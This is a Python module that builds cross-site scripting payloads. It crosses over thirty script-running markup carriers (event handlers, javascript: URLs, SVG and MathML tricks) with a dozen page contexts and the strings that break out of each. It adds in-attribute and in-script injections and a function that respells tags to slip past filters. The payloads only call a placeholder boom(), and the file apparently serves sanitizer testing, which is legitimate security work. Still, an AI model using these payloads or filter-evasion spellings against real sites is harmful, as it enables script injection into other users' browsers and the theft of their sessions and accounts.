"""Markup that would run, in each of the places where somebody's words can stand on a page.

Made here from parts: what carries code, how it is spelled, and how it breaks out of where it stands.
"""

import re
from dataclasses import dataclass

TAG = re.compile(r"<(\w+)([ >])(.*)")

# Each runs by itself, or when somebody points at it, tabs to it or presses it.
CARRIERS = (
    "<script>boom()</script>",
    "<img src=x onerror=boom()>",
    "<img src=x: onerror=boom()>",
    "<svg onload=boom()></svg>",
    "<svg><script>boom()</script></svg>",
    "<svg><animate onbegin=boom() attributeName=x dur=1s></animate></svg>",
    "<svg><a href=javascript:boom()><text y=20>on</text></a></svg>",
    "<iframe onload=boom()></iframe>",
    "<iframe src=javascript:top.boom()></iframe>",
    "<iframe srcdoc='<script>top.boom()</script>'></iframe>",
    "<object data=x onerror=boom()></object>",
    "<video src=x onerror=boom()></video>",
    "<audio src=x onerror=boom()></audio>",
    "<video><source src=x onerror=boom()></video>",
    "<details open ontoggle=boom()>on</details>",
    "<input autofocus onfocus=boom()>",
    "<textarea autofocus onfocus=boom()></textarea>",
    "<select autofocus onfocus=boom()></select>",
    "<b tabindex=0 onfocus=boom()>on</b>",
    "<b onmouseover=boom()>on</b>",
    "<b onpointerenter=boom()>on</b>",
    "<b onclick=boom()>on</b>",
    "<button onclick=boom()>on</button>",
    "<a href=javascript:boom()>on</a>",
    "<a href=' javascript:boom()'>on</a>",
    "<a href='java&#115;cript:boom()'>on</a>",
    "<form action=javascript:boom()><button>on</button></form>",
    "<form><button formaction=javascript:boom()>on</button></form>",
    "<style>@keyframes on{}</style><b style=animation-name:on onanimationstart=boom()>on</b>",
    "<b oncopy=boom()>on</b>",
    "<math><mtext><img src=x onerror=boom()></mtext></math>",
    "<table><td><img src=x onerror=boom()></td></table>",
)
# Where words stand, and what ends that place so that markup begins.
PLACES = {
    "<p>%s</p>": "",
    '<input value="%s">': '">',
    "<input value='%s'>": "'>",
    "<input value=%s>": "x>",
    "<title>%s</title>": "</title>",
    "<textarea>%s</textarea>": "</textarea>",
    "<style>b{content:'%s'}</style>": "</style>",
    "<script>var words = '%s'</script>": "</script>",
    "<!-- %s -->": "-->",
    "<svg><title>%s</title></svg>": "</title></svg>",
    "<noscript>%s</noscript>": "</noscript>",
    "<select><option>%s</option></select>": "</option></select>",
}
# Inside a tag or a script nothing has to be broken out of but the quotation marks.
WITHIN = (
    ('<input value="%s">', '" autofocus onfocus=boom() x="'),
    ("<input value='%s'>", "' autofocus onfocus=boom() x='"),
    ("<input value=%s>", "x autofocus onfocus=boom()"),
    ('<b class="%s">on</b>', '" onmouseover="boom()'),
    ('<a href="%s">on</a>', "javascript:boom()"),
    ('<a href="%s">on</a>', "JaVaScRiPt:boom()//https://"),
    ('<a href="%s">on</a>', "java\tscript:boom()"),
    ('<iframe src="%s"></iframe>', "javascript:top.boom()"),
    ("<script>var words = '%s'</script>", "';boom();'"),
    ('<script>var words = "%s"</script>', '";boom();"'),
    ("<script>var words = `%s`</script>", "${boom()}"),
    ("<b onclick=\"String('%s')\">on</b>", "'+boom()+'"),
)


@dataclass(frozen=True)
class Payload:
    """``place`` holds it as it is, unescaped, where it runs: ``place % text``."""

    place: str
    text: str

    @property
    def fires_on(self) -> str:
        return f"<!doctype html><body>{self.place.replace('%s', self.text)}</body>"


def _spelled(markup: str, way: int) -> str:
    """Spell a tag so that a filter which knows one spelling does not see it; a browser does."""
    tag, end, rest = TAG.fullmatch(markup).groups()  # type: ignore[union-attr]
    if way == 1:
        tag = "".join(letter.upper() if n % 2 else letter for n, letter in enumerate(tag))
    between = (end, end, "\n", "/")[way] if end == " " else end
    return f"<{tag}{between}{rest}"


def payloads(number: int) -> list[Payload]:
    """Return at least so many, or all there are; a smaller number is spread over all kinds."""
    made = [
        Payload(place, f"{out}{_spelled(carrier, way)}")
        for way in range(4)
        for carrier in CARRIERS
        for place, out in PLACES.items()
    ]
    every = dict.fromkeys([Payload(*one) for one in WITHIN] + made)
    step = max(1, len(every) // number)
    return list(every)[::step]
